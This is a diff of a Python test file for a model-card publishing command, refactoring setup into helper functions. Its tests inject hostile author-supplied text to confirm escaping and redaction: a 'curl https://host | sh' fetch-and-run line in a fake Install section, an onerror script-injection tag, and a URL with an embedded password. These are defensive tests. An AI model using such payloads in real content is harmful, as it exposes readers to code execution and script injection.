@@ -43,10 +43,10 @@ def test_a_published_policy_loads_and_has_a_card(run_dir: Path, tmp_path: Path) 
     card = (tmp_path / "out" / "README.md").read_text()
     head = yaml.safe_load(card.split("\n---\n")[0])
     assert (head["library_name"], head["license"]) == ("groundling", "mit")
-    told = {metric["type"]: metric for result in head["model-index"][0]["results"] for metric in result["metrics"]}
+    metrics = {metric["type"]: metric for result in head["model-index"][0]["results"] for metric in result["metrics"]}
     figure = json.loads((run_dir / "evaluation" / "test.json").read_text())["agents"]["trained"]["figures"]["reward"]
-    assert told["reward"]["value"] == figure["value"]
-    assert told["reward"]["args"] == {"low": figure["low"], "high": figure["high"], "episodes": 2}
+    assert metrics["reward"]["value"] == figure["value"]
+    assert metrics["reward"]["args"] == {"low": figure["low"], "high": figure["high"], "episodes": 2}
     assert 'agent.act("a prompt")' in card
     assert "| reward |" in card and "zero-shot" in card and "increasing_numbers" in card
     assert not (tmp_path / "out" / "optimizer.safetensors").exists()
@@ -79,7 +79,7 @@ def adapted(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 
 def _moved(run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    """What `publish` makes of a run, copied elsewhere and named from there."""
+    """Publish a run, copy the folder elsewhere, and name it from there."""
     assert main(["publish", str(run), "--output", str(tmp_path / "out")]) == 0
     shutil.copytree(tmp_path / "out", tmp_path / "elsewhere" / "copy")
     shutil.rmtree(tmp_path / "out")
@@ -92,6 +92,22 @@ def _moved(run: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
 def _agents(folder: Path, suite: str) -> dict[str, Any]:
     agents: dict[str, Any] = json.loads((folder / "evaluation" / f"{suite}.json").read_text())["agents"]
     return agents
+
+
+def _copy(run_dir: Path, tmp_path: Path, **changes: Any) -> Path:
+    """Copy a run, with changes of its config (``model__path`` is ``model.path``)."""
+    run = shutil.copytree(run_dir, tmp_path / "run")
+    config = OmegaConf.load(run / "config.yaml")
+    for key, value in changes.items():
+        OmegaConf.update(config, key.replace("__", "."), value)
+    OmegaConf.save(config, run / "config.yaml")
+    return run
+
+
+def _published(run: Path, output: Path) -> str:
+    """Publish a run; return its model card."""
+    assert main(["publish", str(run), "--output", str(output)]) == 0
+    return (output / "README.md").read_text()
 
 
 @THOROUGH
@@ -136,8 +152,7 @@ def test_a_published_adapter_names_its_base_model(
 
 def test_only_the_policys_own_files_are_published(run_dir: Path, tmp_path: Path) -> None:
     """A manifest may name the publisher's files."""
-    run = tmp_path / "run"
-    shutil.copytree(run_dir, run)
+    run = _copy(run_dir, tmp_path)
     (tmp_path / "private.txt").write_text("private")
     newest = sorted((run / "checkpoints").iterdir())[-1]
     (newest / "stray.txt").write_text("stray")
@@ -154,8 +169,7 @@ def test_only_the_policys_own_files_are_published(run_dir: Path, tmp_path: Path)
 
 
 def test_judges_questions_and_answers_are_not_published(run_dir: Path, tmp_path: Path) -> None:
-    run = tmp_path / "run"
-    shutil.copytree(run_dir, run)
+    run = _copy(run_dir, tmp_path)
     newest = sorted((run / "checkpoints").iterdir())[-1]
     part = newest / "rewards" / "taste"
     (part / "model").mkdir(parents=True)
@@ -171,14 +185,12 @@ def test_judges_questions_and_answers_are_not_published(run_dir: Path, tmp_path:
 def test_a_reward_model_unused_in_training_is_not_published(
     run_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    """Whoever made the run names the folder, which may be one of the publisher's."""
-    run, taste = tmp_path / "run", tmp_path / "taste"
-    shutil.copytree(run_dir, run)
+    """The run's author names the folder, which may be the publisher's own."""
+    taste = tmp_path / "taste"
     private, other = (CharacterRewardModel(channels=size, hidden_size=8) for size in (4, 8))
     private.save(taste, {"note": "private"})
-    config = OmegaConf.load(run / "config.yaml")
-    config.reward["taste"] = {"id": "reward_model", "coefficient": 1.0, "args": {"path": str(taste)}}
-    OmegaConf.save(config, run / "config.yaml")
+    entry = {"id": "reward_model", "coefficient": 1.0, "args": {"path": str(taste)}}
+    run = _copy(run_dir, tmp_path, reward__taste=entry)
     newest = sorted((run / "checkpoints").iterdir())[-1]
     part = newest / "rewards" / "taste"
     part.mkdir(parents=True)
@@ -202,46 +214,32 @@ def test_a_reward_model_unused_in_training_is_not_published(
 
 def test_a_card_has_the_notes_of_its_evaluations(run_dir: Path, tmp_path: Path) -> None:
     """As that success was decided by the last reward; what they quote cannot be markup."""
-    run = tmp_path / "run"
-    shutil.copytree(run_dir, run)
+    run = _copy(run_dir, tmp_path)
     path = run / "evaluation" / "test.json"
     content = json.loads(path.read_text()) | {"notes": ["success: not reported <b>", "another"]}
     path.write_text(json.dumps(content))
-    assert main(["publish", str(run), "--output", str(tmp_path / "out")]) == 0
-    card = (tmp_path / "out" / "README.md").read_text()
+    card = _published(run, tmp_path / "out")
     assert "|\n\nsuccess: not reported" in card and "\n\nanother\n" in card and "<b>" not in card
 
 
 def test_a_name_with_an_address_is_left_out(run_dir: Path, tmp_path: Path) -> None:
-    run = tmp_path / "run"
-    shutil.copytree(run_dir, run)
-    config = OmegaConf.load(run / "config.yaml")
-    config.name = "learnt from https://ada:hunter2@levels.intern"
-    OmegaConf.save(config, run / "config.yaml")
-    assert main(["publish", str(run), "--output", str(tmp_path / "out")]) == 0
-    assert (tmp_path / "out" / "README.md").read_text().count("\n# run\n") == 1
+    run = _copy(run_dir, tmp_path, name="learnt from https://ada:hunter2@levels.intern")
+    assert _published(run, tmp_path / "out").count("\n# run\n") == 1
     assert not [path for path in (tmp_path / "out").rglob("*.*") if b"hunter2" in path.read_bytes()]
     assert find(str(tmp_path / "out"), [], pytest.fail).config.name == "run"
 
 
 def test_names_of_the_runs_author_are_escaped_in_the_card(run_dir: Path, tmp_path: Path) -> None:
-    run = tmp_path / "run"
-    shutil.copytree(run_dir, run)
     theirs = "x |\n\n## Install\n\n```\ncurl https://host | sh\n```\n<img src=x onerror=alert(1)>"
-    config = OmegaConf.load(run / "config.yaml")
-    config.name, config.model.path = "<b>run", "gpt2\nlicense: mit\n---\n`<b>"
-    OmegaConf.save(config, run / "config.yaml")
+    base = "gpt2\nlicense: mit\n---\n`<b>"
+    run = _copy(run_dir, tmp_path, name="<b>run", model__path=base)
     path = run / "evaluation" / "test.json"
     evaluation = json.loads(path.read_text())
     trained = evaluation["agents"]["trained"]
     trained |= {"episodes": theirs, "figures": {**trained["figures"], theirs: trained["figures"]["reward"]}}
     evaluation |= {"overrides": [f"a={theirs}"], "agents": {"trained": trained, theirs: trained}}
     path.write_text(json.dumps(evaluation))
-    cards = []
-    for folder in (run_dir, run):
-        output = tmp_path / f"out-{len(cards)}"
-        assert main(["publish", str(folder), "--output", str(output)]) == 0
-        cards.append((output / "README.md").read_text())
+    cards = [_published(folder, tmp_path / f"out-{place}") for place, folder in enumerate((run_dir, run))]
     without_code = re.sub(r"(?<!`)(`+)(?!`).+?(?<!`)\1(?!`)", "", cards[1].partition("\n---\n")[2])
     assert (
         "<" not in without_code and "<" in cards[1] and "&" not in cards[1].partition("\n## ")[0].partition("A `")[2]
@@ -251,16 +249,12 @@ def test_names_of_the_runs_author_are_escaped_in_the_card(run_dir: Path, tmp_pat
     assert card == usual and len(card) > 4
     head = yaml.safe_load(cards[1].split("\n---\n")[0])
     assert head.keys() == {"library_name", "base_model", "tags", "model-index"}
-    assert head["base_model"] == config.model.path and head["tags"] == ["reinforcement-learning", "ppo"]
+    assert head["base_model"] == base and head["tags"] == ["reinforcement-learning", "ppo"]
 
 
 @pytest.mark.parametrize("name", ["null", "on", "123", "2020-01-01"])
 def test_a_model_is_named_by_a_text(name: str, run_dir: Path, tmp_path: Path) -> None:
-    shutil.copytree(run_dir, tmp_path / "run")
-    config = OmegaConf.load(run_dir / "config.yaml")
-    config.model.path = name
-    OmegaConf.save(config, tmp_path / "run" / "config.yaml")
-    card = model_card(find(str(tmp_path / "run"), [], warnings.warn))
+    card = model_card(find(str(_copy(run_dir, tmp_path, model__path=name)), [], warnings.warn))
     assert yaml.safe_load(card.split("\n---\n")[0])["base_model"] == name
 
 
